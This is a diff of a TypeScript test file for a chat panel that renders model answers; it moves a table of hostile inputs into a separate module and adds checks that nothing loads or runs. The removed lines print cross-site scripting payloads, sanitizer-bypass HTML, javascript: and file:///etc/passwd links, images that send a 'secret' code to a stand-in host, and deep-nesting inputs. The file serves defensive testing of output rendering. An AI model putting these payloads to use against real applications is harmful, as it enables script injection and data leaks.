@@ -1,24 +1,9 @@
 import assert from "node:assert/strict";
+import { answersInPanel } from "../injection/panel";
 import { type PanelPage, usePanels } from "./support/panelPage";
 import { answer, panelState, userTurn } from "./support/states";
 
 const asked = userTurn("u1", "Go on.");
-
-/** Runs when anything of it does. */
-const run = "window.hacked = true; parent.hacked = true";
-
-/** What a model that was talked into it might write. */
-const hostile: Readonly<Record<string, string>> = {
-  "HTML and scripts": `<script>${run}</script>\n\n<img src=x onerror="${run}">\n\n<svg onload="${run}"><style>@import url(https://x.test/a.css)</style></svg>\n\n<iframe srcdoc="<script>${run}</script>"></iframe>\n\n<meta http-equiv="refresh" content="0;url=https://x.test">\n\n<base href="https://x.test/">\n\n<form action="https://x.test"><button>Go</button></form>`,
-  "HTML that sanitizers have stumbled over": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">\n\n<noscript><p title="</noscript><img src=x onerror=${run}>">\n\n<a href="x" style="background:url(https://x.test/)">a</a>`,
-  "links that run something": `[a](javascript:${encodeURIComponent(run)}) [b](command:workbench.action.quit) [c](vscode://x/y) [d](data:text/html,<script>${run}</script>) [e](file:///etc/passwd) <javascript:hacked=1> [f](JaVaScRiPt:hacked=1) [g][1]\n\n[1]: javascript:hacked=1`,
-  "remote images that carry code away": `![](https://x.test/?code=secret) ![a](//x.test/a.png "t") ![b](data:image/svg+xml,<svg onload="${run}"/>) [![c](https://x.test/c.png)](https://x.test/) ![d][1]\n\n[1]: https://x.test/d.png`,
-  "fences that break out":
-    '```ts"><img src=x onerror=hacked=1>\n</code></pre><script>hacked = true</script>\n```\n\n``` <b>x</b>.ts\nx',
-  "unbalanced fences": "```\na\n~~~\nb\n````\nc\n```ts\n`".repeat(20),
-  "a table and a list without end": `${"| a | b |\n|---|---|\n"}${"| <b>x</b> | ![](https://x.test/) |\n".repeat(500)}\n${"- x\n".repeat(2000)}`,
-  "deep nesting": `${"> ".repeat(2000)}x\n\n${"- ".repeat(2000)}x\n\n${"[".repeat(5000)}a${"](".repeat(5000)}\n\n${"**_".repeat(3000)}`,
-};
 
 async function answered(panel: PanelPage, text: string): Promise<void> {
   await panel.show(panelState({ turns: [asked, answer("a1", "", { state: "streaming" })] }));
@@ -33,8 +18,8 @@ async function answered(panel: PanelPage, text: string): Promise<void> {
 describe("panel: hostile text", () => {
   const openPanel = usePanels();
 
-  for (const [what, text] of Object.entries(hostile)) {
-    it(`${what}: nothing is loaded, run or left`, async () => {
+  for (const { name, text } of answersInPanel) {
+    it(`${name}: nothing is loaded, run or left`, async () => {
       const panel = await openPanel();
       await answered(panel, text);
       for (const link of await panel.locator(".answer a, .answer .unlinked").all()) await link.click();
@@ -47,6 +32,8 @@ describe("panel: hostile text", () => {
         attributes.filter((name) => /^(on|style|src|href|srcset|action|xlink)/.test(name)),
         [],
       );
+      assert.equal(await panel.locator(".answer :is(.accept, .notice, .turn, section, style)").count(), 0);
+      assert.equal(await panel.locator(".answer [data-href^=command]").count(), 0);
     });
   }
 
@@ -85,7 +72,7 @@ describe("panel: hostile text", () => {
       assert.equal(await panel.input.inputValue(), "still here");
     }
     await panel.assertNothingHappened();
-  }).timeout(60_000);
+  });
 
   it("what cannot be seen has a mark, in prose, code and labels, and has no effect beyond it", async () => {
     const panel = await openPanel();
